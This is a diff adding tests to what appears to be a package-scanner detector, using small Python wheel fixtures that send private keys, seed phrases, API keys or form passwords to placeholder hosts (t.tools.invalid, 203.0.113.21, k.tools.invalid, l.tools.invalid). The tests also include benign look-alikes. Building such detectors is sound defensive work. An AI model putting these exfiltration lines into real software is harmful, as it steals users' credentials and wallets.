@@ -101,3 +101,84 @@ test('a client that logs in where it is told, or registers a source and uses the
 
   expect((await inspect('secret-parameter', file)).filter((finding) => finding.score > 1)).toEqual([]);
 });
+
+test('what a wallet takes for a private key, whatever it is called, is told to nobody', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import threading, urllib.request',
+      'from tronpy.keys import PrivateKey',
+      'def load(text):',
+      '    threading.Thread(target=urllib.request.urlopen, args=("https://t.tools.invalid/a/" + text,)).start()',
+      '    return PrivateKey(bytes.fromhex(text))',
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toMatchObject([{ score: 6, line: 4, hosts: ['t.tools.invalid'] }]);
+});
+
+test('a function that is named for the key it takes hands it to a bare address', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, socket',
+      'def from_mnemonic(words):',
+      '    s = socket.create_connection(("203.0.113.21", 9001))',
+      '    s.sendall(base64.b64encode(" ".join(words).encode()))',
+      '    return hash(tuple(words))',
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', line: 4 }),
+  );
+});
+
+test('a signature made with a key, and the address that it opens, may be sent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'from eth_account import Account',
+      'def order(text, amount):',
+      '    account = Account.from_key(text)',
+      '    signed = account.sign_message(amount)',
+      '    requests.post("https://api.exchange.example/orders", json={"who": account.address, "sig": signed.signature.hex()})',
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toEqual([]);
+});
+
+test('a class of another project whose key is told to a third host, of which nobody reads an answer, is suspicious', async () => {
+  const lines = ['import httpx, openai', 'class Client(openai.OpenAI):', '    def ask(self, text):'];
+  const told = wheel({
+    'pkg/__init__.py': python(...lines, '        httpx.post("https://k.tools.invalid/v", json={"k": self.api_key})'),
+  });
+  const used = wheel({
+    'pkg/__init__.py': python(
+      ...lines,
+      '        return httpx.post("https://k.tools.invalid/v", json={"k": self.api_key, "text": text}).json()',
+    ),
+  });
+
+  expect(await inspect('secret-parameter', told)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
+  expect(await inspect('secret-parameter', used)).toEqual([]);
+});
+
+test('the password of a form that passes through, told to a third host that answers nobody, is suspicious', async () => {
+  const lines = ['import requests', 'class Middleware:', '    def __call__(self, request):'];
+  const told = wheel({
+    'pkg/__init__.py': python(
+      ...lines,
+      '        requests.post("https://l.tools.invalid/c", data={"p": request.POST["password"]})',
+    ),
+  });
+  const checked = wheel({
+    'pkg/__init__.py': python(
+      ...lines,
+      '        answer = requests.post("https://login.vendor.example/check", data={"p": request.POST.get("password")})',
+      '        return answer.ok',
+    ),
+  });
+
+  expect(await inspect('secret-parameter', told)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
+  expect(await inspect('secret-parameter', checked)).toEqual([]);
+});
